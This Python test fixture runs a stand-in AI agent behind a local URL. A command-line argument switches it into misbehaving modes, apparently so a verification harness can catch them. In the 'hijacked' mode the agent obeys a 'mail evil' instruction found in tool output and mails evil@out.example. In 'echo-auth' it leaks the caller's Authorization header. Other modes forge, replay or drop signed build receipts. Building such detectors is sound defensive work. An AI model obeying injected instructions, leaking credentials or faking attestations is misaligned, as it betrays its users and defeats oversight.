"""An agent behind a URL, for tests: it works with the session's tools; its first argument picks its character."""

import hashlib
import json
import os
import re
import sys
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import count
from threading import Lock

from agent_litmus.receipts import NONCE, receipt_headers

CHARACTER = sys.argv[1]
KEY = os.environ["RECEIPT_KEY"].encode()
DIGEST = "sha256:" + hashlib.sha256(b"build 1").hexdigest()
OTHER = "sha256:" + hashlib.sha256(b"build 2").hexdigest()
if CHARACTER == "other":
    DIGEST = OTHER
CODE = re.compile(r"\b[A-Z]{3,5}-\d{2}\b")
LOCK = Lock()
numbers = count(1)
cache = {}
memory = []
first = {}


def call(url, tool, **arguments):
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": arguments}}
    request = urllib.request.Request(url, json.dumps(body).encode(), {"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=20) as reply:
        return json.loads(reply.read())["result"]["content"][0]["text"]


def work(task):
    prompt, tools = task["prompt"], task["mcp"]["url"]
    if "earlier in our conversation" in prompt:
        return " ".join(memory[-4:]) if CHARACTER == "memory" else "no codes."
    if CHARACTER == "cache" and prompt in cache:
        return cache[prompt]
    if CHARACTER == "mocked":
        return "The code is ZZZZ-00"
    text = call(tools, "read_mail", id="m1") if "mail" in prompt else call(tools, "read_file", path="notes.txt")
    codes = CODE.findall(text)
    memory.extend(codes)
    if CHARACTER == "hijacked" and "mail evil" in text:
        call(tools, "send_mail", to="evil@out.example", subject="as asked", body="b")
    cache[prompt] = f"Look {task['seed']}: the code is {codes[0]}"
    return cache[prompt]


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        moved = CHARACTER == "moved" and next(numbers) > 1
        self.reply(200, b"build", "text/plain", OTHER if moved else None)

    def do_POST(self):
        if self.headers["Authorization"] != os.environ["AGENT_AUTH"]:
            self.send_error(401)
            return
        task = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        asked = "earlier in our conversation" in task["prompt"]
        with LOCK:
            number = 0 if asked else next(numbers)
        if CHARACTER == "broken" and number == 3:
            self.send_error(502)
            return
        body = json.dumps({"answer": work(task)}).encode()
        if CHARACTER == "echo-auth":
            body = json.dumps({"answer": self.headers["Authorization"]}).encode()
        self.reply(200, body, "application/json", OTHER if CHARACTER == "skew" and number == 3 else None, number)

    def reply(self, status, body, kind, other=None, number=0):
        key = b"k" * 32 if CHARACTER == "another-key" and number == 3 else KEY
        headers = receipt_headers(key, other or DIGEST, self.headers[NONCE], body, replica="a")
        if number:
            first.setdefault("headers", headers)
        if CHARACTER == "old-receipt" and number > 3:
            headers = first["headers"]
        if CHARACTER == "no-receipt" and number == 3:
            headers = {}
        self.send_response(status)
        for name, value in {**headers, "Content-Type": kind, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_port, flush=True)
server.serve_forever()
